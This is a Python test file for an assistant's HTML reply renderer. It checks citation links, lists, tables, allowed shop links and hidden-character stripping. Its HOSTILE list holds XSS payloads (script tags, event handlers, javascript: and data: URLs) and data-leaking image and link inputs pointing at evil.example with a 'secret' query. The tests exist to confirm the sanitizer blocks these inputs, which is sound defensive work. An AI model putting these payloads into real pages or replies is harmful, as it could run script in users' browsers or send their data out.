"""Reply text as HTML: what it shows, and what never gets through."""

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from assistant.api.reply_html import render_reply
from assistant.api.suggestions import render_suggestion
from assistant.domain.messages import Citation

CITED = [Citation(n=1, article="a", title="t", url="/u", quote="q")]
HOSTS = {"shop.example"}
LINK = '<sup><a href="#cite-1" data-cite="1" rel="noopener noreferrer nofollow">1</a></sup>'


def shop_link(address: str) -> str:
    return f'<a href="{address}" target="_blank" rel="noopener noreferrer nofollow">{address}</a>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("返品できます。[1]", f"<p>返品できます。{LINK}</p>"),
        ("返品できます。[2]", "<p>返品できます。[2]</p>"),
        ("a\nb", "<p>a<br>\nb</p>"),
        ("**強調** `code`", "<p><strong>強調</strong> <code>code</code></p>"),
        ("# 見出し", "<p><strong>見出し</strong></p>"),
        ("- 一 [1]\n- 二", f"<ul>\n<li>一 {LINK}</li>\n<li>二</li>\n</ul>"),
        ("3. 三\n4. 四", '<ol start="3">\n<li>三</li>\n<li>四</li>\n</ol>'),
        (
            "https://shop.example/a?b=1&c=2.",
            "<p>" + shop_link("https://shop.example/a?b=1&amp;c=2") + ".</p>",
        ),
        ("[記事](https://shop.example/a)", f"<p>記事 ({shop_link('https://shop.example/a')})</p>"),
        ("<https://shop.example/a>", f"<p>{shop_link('https://shop.example/a')}</p>"),
    ],
)
def test_a_reply_is_shown_as(text: str, html: str) -> None:
    assert render_reply(text, CITED, HOSTS) == html


def test_a_table_keeps_its_cells_and_citations() -> None:
    tree = BeautifulSoup(render_reply("| 状態 | 期限 |\n| --- | --- |\n| 未開封 | 30日 [1] |", CITED), "lxml")
    assert [cell.get_text() for cell in tree.select("th, td")] == ["状態", "期限", "未開封", "30日 1"]
    assert [link["data-cite"] for link in tree.select("td sup a")] == ["1"]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/p.png?q=secret)",
    "![x](https://shop.example/p.png)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "https://evil.example/x",
    "https://shop.example@evil.example/",
    "https://shop.example.evil.example/",
    "[https://shop.example](https://evil.example)",
    "[1](https://evil.example)",
    "[a](//evil.example)",
    "<a href='https://evil.example'>x</a>",
    "<svg/onload=alert(1)>",
    "`<b onmouseover=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n| --- |\n| <iframe src=//evil.example> |",
    "[x](https://shop.example/%22onmouseover=%22alert(1))",
    'https://shop.example/"onmouseover="alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](&#106;avascript:alert(1))",
    "<style>@import 'https://evil.example'</style>",
    "[x]: https://evil.example\n\n[x]",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_loads_or_leads_elsewhere(text: str) -> None:
    assert_harmless(render_reply(text, CITED, HOSTS))


@given(
    st.lists(st.sampled_from([*HOSTILE, "[1]", "**", "\n", "|", "`", "](", "<", ">", '"', "\u202e"])).map(
        "".join
    )
)
def test_no_mixture_of_hostile_pieces_gets_through(text: str) -> None:
    assert_harmless(render_reply(text, CITED, HOSTS))


@given(st.text())
def test_any_text_renders(text: str) -> None:
    assert_harmless(render_reply(text, CITED, HOSTS))


def assert_harmless(html: str) -> None:
    tree = BeautifulSoup(html, "lxml")
    assert tree.select("img, script, style, iframe, svg, object, form, input, link, base, meta") == []
    for node in tree.select("body *"):
        names = set(node.attrs)
        assert names <= {"href", "data-cite", "target", "rel", "start"}, html
        address = str(node.get("href") or "#cite-1")
        assert (
            address.startswith(("#cite-1", "https://shop.example/")) or address == "https://shop.example"
        ), html


def test_halves_of_characters_and_hidden_ones_are_left_out() -> None:
    assert render_reply("a\ud800b\x00c\u200bd\U000e0041e\u202ef") == "<p>a?bcdef</p>"


def test_no_reply_is_endless() -> None:
    assert len(render_reply("あ" * 100_000)) < 21_000


def test_a_suggestion_keeps_its_links_and_shows_no_source_numbers() -> None:
    text = "30日以内です。 [1] [2](https://shop.example/returns)をご覧ください。[12]"
    shown = render_suggestion(text, ["shop.example"])
    link = shop_link("https://shop.example/returns")
    assert shown == f"<p>30日以内です。 2 ({link})をご覧ください。</p>"
